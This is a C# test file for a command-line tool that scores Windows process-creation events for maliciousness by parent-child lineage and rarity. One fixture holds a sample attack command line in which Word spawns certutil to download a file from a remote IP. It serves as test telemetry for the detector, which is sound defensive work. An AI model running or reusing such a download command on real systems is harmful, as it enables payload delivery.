using System.Text;
using System.Text.RegularExpressions;
using Changeling.TestSupport;

namespace Changeling.Cli.Tests;

/// <summary>What <c>score</c> writes.</summary>
public sealed class ScoreTests : IDisposable
{
    private static readonly byte[] ProcessEnded =
        """{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_id":"5","computer_name":"ws-0417"}}"""u8.ToArray();

    private static readonly byte[] Ordinary =
        Telemetry.Record("services.exe", "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule");

    private static readonly byte[] Attack = Telemetry.Record(
        "winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");

    private readonly Scratch _folder = new();

    [Fact]
    public async Task Each_record_gives_one_line_in_order_with_its_place()
    {
        var message = Telemetry.Many(Telemetry.Record("EXPLORER.EXE", "Notepad.exe"), Telemetry.Record("winword.exe", "cmd.exe"));
        _folder.Write("events.jsonl", [.. Telemetry.Record("services.exe", "svchost.exe"), .. "\n\n"u8, .. message, (byte)'\n']);

        var scores = await ScoreAsync("events.jsonl");

        Assert.Equal(
            [
                (_folder["events.jsonl"], 1, 0, "services.exe > svchost.exe"),
                (_folder["events.jsonl"], 3, 0, "explorer.exe > notepad.exe"), (_folder["events.jsonl"], 3, 1, "winword.exe > cmd.exe"),
            ],
            scores.Select(s => (s.File, s.Line, s.Record, s.Lineage)));
        Assert.All(scores, score =>
        {
            Assert.InRange(score.Probability!.Value, 0, 1);
            Assert.InRange(score.Rarity!.Value, 0, 100);
            Assert.NotNull(score.Malicious);
            Assert.Null(score.Error);
        });
    }

    /// <summary>The file that the README names must be read, and the example must still stand there.</summary>
    [Fact]
    public async Task The_example_of_the_README_is_read_without_a_rest()
    {
        var named = Regex.Match(File.ReadAllText(RepositoryRoot.Combine("README.md")), @"src/Cli -- backtest (\S+)").Groups[1].Value;

        Assert.NotEmpty(named);
        var scores = await ScoreAsync(RepositoryRoot.Combine(named.Split('/')));

        Assert.True(scores.Count > 1_000, $"{named}: {scores.Count} launches");
        Assert.All(scores, score => Assert.Null(score.Error));
        Assert.Contains(scores, score => score.Malicious == true);
    }

    [Fact]
    public async Task Parent_and_child_are_lower_case_as_they_were_and_the_lineage_is_folded()
    {
        _folder.Write("events.jsonl", Telemetry.Record("Setup.exe", "IS-4F7A1.tmp"));

        var score = Assert.Single(await ScoreAsync("events.jsonl"));

        Assert.Equal(("setup.exe", "is-4f7a1.tmp", "setup.exe > *.tmp"), (score.Parent, score.Child, score.Lineage));
    }

    [Fact]
    public async Task The_golden_launch_of_every_format_is_read_and_scores_alike()
    {
        var folder = RepositoryRoot.Combine("tests", "Core.Tests", "Events", "Golden");
        var files = Directory.GetFiles(folder).Order(StringComparer.Ordinal).ToArray();

        var scores = await ScoreAsync(["--", .. files]);

        Assert.Equal(files, scores.Where(s => s.Error is null).Select(s => s.File));
        Assert.All(scores.Where(s => s.Error is null), score => Assert.Equal("winword.exe > certutil.exe", score.Lineage));
        var probabilities = scores.Where(s => s.Error is null).Select(s => s.Probability!.Value).ToList();
        Assert.True(
            probabilities.Max() - probabilities.Min() <= 0.001,
            string.Join('\n', scores.Select(s => $"{Path.GetFileName(s.File)}: {s.Probability:0.0000} {s.Error}")));
    }

    [Fact]
    public async Task The_lineage_stands_in_the_text_as_it_is_written()
    {
        _folder.Write("events.jsonl", Telemetry.Record("winword.exe", "cmd.exe"));

        var outcome = await Terminal.RunAsync(_folder, "score", "events.jsonl");

        Assert.Contains("\"lineage\":\"winword.exe > cmd.exe\"", outcome.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_control_character_of_an_event_never_reaches_the_terminal()
    {
        _folder.Write("events.jsonl", Telemetry.Record("explorer.exe", "a\u001b[31m\u009bb.exe"));

        var outcome = (await Terminal.RunAsync(_folder, "score", "events.jsonl")).Succeeded();

        Assert.DoesNotContain(outcome.Output, character => char.IsControl(character) && character != '\n');
        Assert.Contains("\u001b[31m", Assert.Single(ScoreLine.Of(outcome)).Child, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_is_no_process_creation_or_cannot_be_read_says_why_beside_its_neighbours()
    {
        _folder.Write("events.jsonl", [.. ProcessEnded, .. "\nrubbish\n"u8, .. Telemetry.Record("services.exe", "svchost.exe")]);

        var scores = await ScoreAsync("events.jsonl");

        Assert.Equal(
            [
                (_folder["events.jsonl"], 1, 0, null, null, "skipped: event 5"),
                (_folder["events.jsonl"], 2, 0, null, null, "not_json: the body"),
            ],
            scores.Take(2).Select(s => (s.File, s.Line, s.Record, s.Probability, s.Host, s.Error)));
        Assert.Null(scores[2].Error);
    }

    [Fact]
    public async Task A_parents_child_is_no_longer_rare_once_it_was_seen_often()
    {
        _folder.Write("events.jsonl", Lines(Enumerable.Repeat(Telemetry.Record("helpdesk.exe", "inventory.exe"), 50)));

        var scores = await ScoreAsync("events.jsonl");

        Assert.True(scores[^1].Rarity < scores[0].Rarity, $"first {scores[0].Rarity}, last {scores[^1].Rarity}");
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_dash_is_standard_input_also_when_it_is_gzipped(bool gzipped)
    {
        var text = Telemetry.Record("services.exe", "svchost.exe");

        var outcome = (await Terminal.RunAsync(_folder, gzipped ? Scratch.Gzip(text) : text, "score", "-")).Succeeded();

        var score = Assert.Single(ScoreLine.Of(outcome));
        Assert.Equal(("-", "services.exe > svchost.exe", null), (score.File, score.Lineage, score.Error));
    }

    [Theory]
    [InlineData("events.jsonl.gz")]
    [InlineData("events.jsonl")]
    public async Task A_gzipped_file_is_inflated_whatever_its_name(string name)
    {
        _folder.Write(
            name, Scratch.Gzip(Lines([Telemetry.Record("services.exe", "svchost.exe"), Telemetry.Record("winword.exe", "cmd.exe")])));

        var scores = await ScoreAsync(name);

        Assert.Equal([(1, null), (2, null)], scores.Select(s => (s.Line, s.Error)));
    }

    [Fact]
    public async Task Gzip_files_put_one_behind_the_other_are_read_whole()
    {
        _folder.Write(
            "day.gz",
            [.. Scratch.Gzip(Lines([Telemetry.Record("a.exe", "b.exe")])), .. Scratch.Gzip(Lines([Telemetry.Record("c.exe", "d.exe")]))]);

        Assert.Equal(["a.exe > b.exe", "c.exe > d.exe"], (await ScoreAsync("day.gz")).Select(s => s.Lineage));
    }

    [Fact]
    public async Task Several_files_follow_each_other_and_share_what_was_seen()
    {
        _folder.Write("monday.jsonl", Lines(Enumerable.Repeat(Telemetry.Record("helpdesk.exe", "inventory.exe"), 50)));
        _folder.Write("tuesday.jsonl", Telemetry.Record("helpdesk.exe", "inventory.exe"));

        var alone = Assert.Single(await ScoreAsync("tuesday.jsonl"));
        var both = await ScoreAsync("monday.jsonl", "tuesday.jsonl");

        Assert.Equal([.. Enumerable.Repeat(_folder["monday.jsonl"], 50), _folder["tuesday.jsonl"]], both.Select(s => s.File));
        Assert.Equal(1, both[^1].Line);
        Assert.True(both[^1].Rarity < alone.Rarity);
    }

    [Fact]
    public async Task An_output_file_holds_what_standard_output_would()
    {
        _folder.Write("events.jsonl", Lines([Telemetry.Record("services.exe", "svchost.exe"), ProcessEnded]));
        var printed = await Terminal.RunAsync(_folder, "score", "events.jsonl");

        var outcome = (await Terminal.RunAsync(_folder, "score", "events.jsonl", "--output", "scores.jsonl")).Succeeded();

        Assert.Empty(outcome.Output);
        Assert.Equal($"2 records, 1 scored → {_folder["scores.jsonl"]}\n", outcome.Errors.ReplaceLineEndings("\n"));
        Assert.Equal(printed.Output, Encoding.UTF8.GetString(_folder.Read("scores.jsonl")));
    }

    [Theory]
    [InlineData("sysmon_winlogbeat.jsonl")]
    [InlineData("security_4688.jsonl")]
    public async Task Every_recorded_event_is_scored(string name)
    {
        var file = Corpus.File("native", name);

        var scores = await ScoreAsync(file);

        Assert.Equal(Enumerable.Range(1, 200), scores.Select(s => s.Line));
        Assert.All(scores, score =>
        {
            Assert.Equal((file, 0, null), (score.File, score.Record, score.Error));
            Assert.NotNull(score.Probability);
            Assert.NotNull(score.Child);
        });
    }

    [Fact]
    public async Task A_line_says_where_when_and_by_whom_and_why_if_it_is_malicious()
    {
        _folder.Write("two.jsonl", [.. Ordinary, .. "\n"u8, .. Attack]);

        var lines = ScoreLine.Of((await Terminal.RunAsync(_folder, "score", "two.jsonl")).Succeeded());

        Assert.All(lines, line => Assert.NotNull(line.Time));
        Assert.All(lines, line => Assert.Equal("ws-0417", line.Host![..7]));
        Assert.Contains("-urlcache", lines[1].CommandLine, StringComparison.Ordinal);
        Assert.Empty(lines[0].Reasons);
        Assert.InRange(lines[1].Reasons.Count, 1, 3);
    }

    [Fact]
    public async Task Lines_are_sorted_by_a_column_and_written_as_a_table()
    {
        _folder.Write("two.jsonl", [.. Ordinary, .. "\n"u8, .. Attack]);

        var sorted = ScoreLine.Of((await Terminal.RunAsync(_folder, "score", "two.jsonl", "--sort", "probability")).Succeeded());
        var table = (await Terminal.RunAsync(_folder, "score", "two.jsonl", "--csv")).Succeeded().Output.TrimStart('\ufeff');

        Assert.Equal([2, 1], sorted.Select(s => s.Line));
        var rows = table.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("file,line,record,time_utc,host,user,probability", rows[0], StringComparison.Ordinal);
        Assert.Equal(3, rows.Length);
        Assert.Contains("yes", rows[2], StringComparison.Ordinal);
    }

    public void Dispose() => _folder.Dispose();

    private static byte[] Lines(IEnumerable<byte[]> records) => [.. records.SelectMany(record => record.Append((byte)'\n'))];

    private async Task<IReadOnlyList<ScoreLine>> ScoreAsync(params string[] files)
    {
        var outcome = (await Terminal.RunAsync(_folder, ["score", .. files])).Succeeded();
        Assert.Empty(outcome.Errors);
        return ScoreLine.Of(outcome);
    }
}
